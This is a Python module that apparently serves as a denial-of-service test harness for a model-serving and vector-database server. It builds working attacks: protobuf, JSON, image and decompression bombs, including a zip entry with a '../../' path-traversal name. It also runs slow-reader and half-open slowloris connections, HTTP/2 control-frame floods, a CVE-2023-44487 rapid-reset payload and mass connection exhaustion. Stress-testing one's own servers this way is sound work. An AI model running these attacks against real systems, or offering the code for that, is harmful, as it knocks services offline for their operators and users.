"""Attacks on a running server. Each runs in processes of the lowest priority, for a time or a number of requests.

Every function takes the target and a number of seconds, and returns counts of the answers.
"""

import collections
import concurrent.futures
import contextlib
import os
import socket
import struct
import threading
import time

import grpc
import requests

import bodies
from target import Target

MIB = 1 << 20
GIB = 1 << 30
REQUEST_S = 60
INFER = "/inference.GRPCInferenceService/ModelInfer"
PREDICT = "/tensorflow.serving.PredictionService/Predict"


def lowest_priority() -> None:
    os.nice(19)


def answers(send, bodies_to_send: list, at_once: int, seconds: float) -> dict:
    """Sends bodies in turn from `at_once` threads until the time is over, each at least once. Counts the answers."""
    counts, lock, end = collections.Counter(), threading.Lock(), time.monotonic() + seconds
    todo = iter(range(1 << 30))

    def work() -> None:
        while True:
            with lock:
                number = next(todo)
            if number >= len(bodies_to_send) and time.monotonic() >= end:
                return
            outcome = send(bodies_to_send[number % len(bodies_to_send)])
            with lock:
                counts[outcome] += 1

    with concurrent.futures.ThreadPoolExecutor(at_once) as pool:
        for done in [pool.submit(work) for _ in range(at_once)]:
            done.result()
    return dict(counts)


def post(target: Target, path: str, body: bytes, method: str = "POST", **headers) -> str:
    """Sends one request. Returns the status or the kind of error."""
    try:
        answer = requests.request(method, target.url + path, data=body, headers=headers, timeout=REQUEST_S, stream=True)
        with contextlib.closing(answer):
            for _ in answer.iter_content(MIB):
                pass
        return str(answer.status_code)
    except requests.RequestException as error:
        return type(error).__name__


# ---- bombs


def protobuf_bombs(target: Target, seconds: float) -> dict:
    count = bodies.EMPTY_ELEMENTS
    makers = [bodies.tensor_of_empty_strings, bodies.empty_inputs, bodies.empty_parameters, bodies.empty_raw_contents]
    made = [(INFER, make(count)) for make in makers] + [(PREDICT, bodies.empty_dims(count))]
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    with grpc.insecure_channel(target.grpc, options=options) as channel:

        def send(what: tuple) -> str:
            method, body = what
            call = channel.unary_unary(method, request_serializer=bytes, response_deserializer=bytes)
            try:
                call(body, timeout=REQUEST_S, compression=grpc.Compression.Gzip)
                return "OK"
            except grpc.RpcError as error:
                return error.code().name

        return answers(send, made, 2, seconds)


def json_bombs(target: Target, seconds: float) -> dict:
    """Sends eight at once, 60 MB each when unpacked. The answers are larger."""
    made = [
        ("/v2/models/half_plus_two/infer", bodies.json_tensor(30_000_000)),
        ("/v1/models/half_plus_two:predict", bodies.json_instances(30_000_000)),
        ("/collections/attacked/points?wait=true", bodies.qdrant_points(30_000_000)),
    ]

    def send(what: tuple) -> str:
        path, body = what
        method = "PUT" if path.startswith("/collections") else "POST"
        return post(target, path, body, method, **{"content-encoding": "gzip", "content-type": "application/json"})

    return answers(send, made, 8, seconds)


def json_oddities(target: Target, seconds: float) -> dict:
    made = [
        ("/v2/models/half_plus_two/infer", bodies.json_deep(1_000_000)),
        ("/v1/models/half_plus_two:predict", b'{"instances":' + b"[" * 1_000_000),
        ("/collections/attacked/points/search", b'{"vector":' + b"[" * 1_000_000),
        ("/collections/attacked/points/scroll", bodies.qdrant_conditions(100_000)),
        ("/v2/models/half_plus_two/infer", b'{"inputs":[' + b'{"name":"x"},' * 1_000_000 + b"{}]}"),
    ]
    return answers(lambda what: post(target, *what), made, 4, seconds)


def image_bombs(target: Target, seconds: float) -> dict:
    png, zipped = "image/png", "application/zip"
    made = [
        (png, bodies.png_profile(GIB)),
        (png, bodies.png_profile(4 * GIB)),
        (png, bodies.png_text(GIB)),
        (png, bodies.png_international_text(GIB)),
        (png, bodies.png_large(8000)),
        (png, bodies.png(60_000, 60_000, pixels=b"")),
        ("image/bmp", bodies.bmp_huge()),
        ("image/tiff", bodies.tiff_huge()),
        (zipped, bodies.zip_of("a.png", 4 * GIB)),
        (zipped, bodies.zip_of("../../a.png", 16 * MIB)),
    ]

    def send(what: tuple) -> str:
        media, body = what
        return post(target, "/v1/images/attacked-images?name=a", body, "PUT", **{"content-type": media})

    def search(what: tuple) -> str:
        media, body = what
        return post(target, "/v1/images/attacked-images/search", body, "POST", **{"content-type": media})

    half = seconds / 2
    return {"put": answers(send, made, 6, half), "search": answers(search, made[:8], 6, half)}


def audio_bombs(target: Target, seconds: float) -> dict:
    made = [bodies.wave_lie(), bodies.mp4_tables(2**32 - 1), b"fLaC\0\0\0\x22" + b"\xff" * 34, b"OggS" + b"\xff" * 4000, bytes(MIB)]
    return answers(lambda body: post(target, "/v1/audio/vad-onnx", body), made, 4, seconds)


# ---- slow clients


def slow_readers(target: Target, seconds: float) -> dict:
    """Requests answers of a hundred megabytes and reads a few bytes a second."""
    body = bodies.json_tensor(10_000_000)
    head = (
        f"POST /v2/models/half_plus_two/infer HTTP/1.1\r\nhost: {target.host}:{target.http_port}\r\n"
        f"content-encoding: gzip\r\ncontent-length: {len(body)}\r\n\r\n"
    ).encode()
    end, counts = time.monotonic() + seconds, collections.Counter()

    def one() -> None:
        with socket.socket() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(5)
            connection.connect((target.host, target.http_port))
            try:
                connection.sendall(head + body)
                while time.monotonic() < end:
                    with contextlib.suppress(TimeoutError):
                        if not connection.recv(64):
                            counts["closed"] += 1
                            return
                    time.sleep(0.5)
            except OSError:
                counts["reset"] += 1
                return
        counts["held to the end"] += 1

    threads = [threading.Thread(target=one) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return dict(counts)


def half_requests(target: Target, seconds: float) -> dict:
    """Opens connections that never finish: no byte, half a header, half a body, half a frame. Sends whole requests too."""
    half = [
        (target.http_port, b""),
        (target.http_port, b"POST /v2/models/half_plus_two/infer HTTP/1.1\r\nhost: a"),
        (target.http_port, b"POST /v2/models/half_plus_two/infer HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-length: 1000\r\n\r\n{"),
        (target.grpc_port, H2_BEGIN + frame(1, 0, 1, bytes(60))[:40]),
        (target.grpc_port, H2_BEGIN + frame(1, 0, 1, HEADERS) + frame(9, 0, 1, b"")),
        (target.grpc_port, H2_BEGIN + b"".join(frame(1, 4, 1 + 2 * n, HEADERS) for n in range(100))),
    ]
    opened = []
    for number in range(1200):
        port, data = half[number % len(half)]
        with contextlib.suppress(OSError):
            connection = socket.create_connection((target.host, port), 5)
            connection.sendall(data)
            opened.append(connection)
    counts, end = collections.Counter(), time.monotonic() + seconds
    body = b'{"inputs":[{"name":"x","datatype":"FP32","shape":[1],"data":[1.0]}]}'
    while time.monotonic() < end:
        counts[post(target, "/v2/models/half_plus_two/infer", body)] += 1
        time.sleep(0.05)
    for connection in opened:
        connection.close()
    return {"half": len(opened), "whole": dict(counts)}


# ---- HTTP/2 floods


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


H2_BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
HEADERS = b"\x83\x86" + literal(b":path", INFER.encode()) + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
FLOODS = {
    "settings": frame(4, 0, 0, b""),
    "settings-ack": frame(4, 1, 0, b""),
    "ping": frame(6, 0, 0, bytes(8)),
    "ping-ack": frame(6, 1, 0, bytes(8)),
    "priority": frame(2, 0, 1, bytes(4) + b"\x10"),
    "window-update": frame(8, 0, 0, struct.pack(">I", 1)),
    "unknown": frame(0xBE, 0, 0, b""),
}
# Calls that their client cancels at once (CVE-2023-44487). A second block repeats the streams, so it ends the connection.
RAPID_RESET = b"".join(
    frame(1, 4, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(1, 40_000, 2)
)
FLOOD_BLOCKS = {name: control * 2000 for name, control in FLOODS.items()} | {"rapid-reset": RAPID_RESET}


def h2_floods(target: Target, seconds: float) -> dict:
    """Floods with each kind of frame in turn, on two connections. Reopens a connection that the server ends."""
    ended = collections.Counter()

    def flood(name: str, until: float) -> None:
        block = FLOOD_BLOCKS[name]
        while time.monotonic() < until:
            try:
                with socket.create_connection((target.host, target.grpc_port), 5) as connection:
                    connection.settimeout(1)
                    connection.sendall(H2_BEGIN)
                    while time.monotonic() < until:
                        connection.sendall(block)
                        connection.setblocking(False)
                        with contextlib.suppress(BlockingIOError):
                            while connection.recv(65536):
                                pass
                        connection.settimeout(1)
            except OSError:
                ended[name] += 1

    for name in FLOOD_BLOCKS:
        until = time.monotonic() + seconds / len(FLOOD_BLOCKS)
        threads = [threading.Thread(target=flood, args=(name, until)) for _ in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return dict(ended)


def connections(target: Target, seconds: float) -> dict:
    """Opens thousands of silent connections as fast as possible and closes them again."""
    opened = []
    with contextlib.suppress(OSError):
        for number in range(6000):
            opened.append(socket.create_connection((target.host, (target.http_port, target.grpc_port)[number % 2]), 5))
    time.sleep(seconds)
    for connection in opened:
        connection.close()
    return {"opened": len(opened)}


ATTACKS = {
    "protobuf": protobuf_bombs,
    "json": json_bombs,
    "json-odd": json_oddities,
    "images": image_bombs,
    "audio": audio_bombs,
    "slow-readers": slow_readers,
    "half": half_requests,
    "h2": h2_floods,
    "connections": connections,
}
